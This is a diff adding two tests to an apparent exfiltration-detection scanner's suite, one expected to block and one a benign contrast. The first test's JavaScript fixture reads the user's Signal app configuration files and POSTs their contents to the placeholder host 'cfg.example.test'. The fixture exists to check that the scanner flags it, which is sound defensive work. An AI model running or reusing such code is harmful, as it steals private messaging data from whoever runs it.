@@ -546,3 +546,30 @@ def test_rust_walk_of_home_that_only_measures_does_not_block(tmp_path: Path) -> 
         '    println!("{}", size(Path::new(&home)));\n}\n'
     )
     assert blocking(tmp_path, {"src/main.rs": rs}) == {}
+
+
+# ------------------------------------------------ JavaScript: a helper that fills the container it is handed
+
+
+def test_helper_filling_a_callers_array_from_app_profiles_listed_by_foreach_blocks(tmp_path: Path) -> None:
+    js = (
+        'const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");\n'
+        'const dirs = [path.join(os.homedir(), ".config", "Signal"), path.join(process.env.XDG || "", "Signal")];\n'
+        "function grab(dir, out) {\n  let list = [];\n  try { list = fs.readdirSync(dir); } catch (e) { return; }\n"
+        '  for (const f of list) {\n    const raw = fs.readFileSync(path.join(dir, f), "utf8");\n'
+        '    for (const line of raw.split("\\n")) out.push(line);\n  }\n}\n'
+        "const got = [];\ndirs.forEach((d) => grab(d, got));\n"
+        'const c = https.request({ host: "cfg.example.test", method: "POST", path: "/" });\nc.end(got.join("\\n"));\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"backup.js": js})
+
+
+def test_helper_filling_a_callers_array_from_project_files_does_not_block(tmp_path: Path) -> None:
+    js = (
+        'const fs = require("fs"), path = require("path"), https = require("https");\n'
+        'const dirs = [path.join(process.cwd(), "docs"), path.join(process.cwd(), "notes")];\n'
+        'function grab(dir, out) {\n  for (const f of fs.readdirSync(dir)) out.push(fs.readFileSync(path.join(dir, f), "utf8"));\n}\n'
+        "const got = [];\ndirs.forEach((d) => grab(d, got));\n"
+        'const c = https.request({ host: "search.example.test", method: "POST", path: "/index" });\nc.end(got.join("\\n"));\n'
+    )
+    assert blocking(tmp_path, {"index.js": js}) == {}
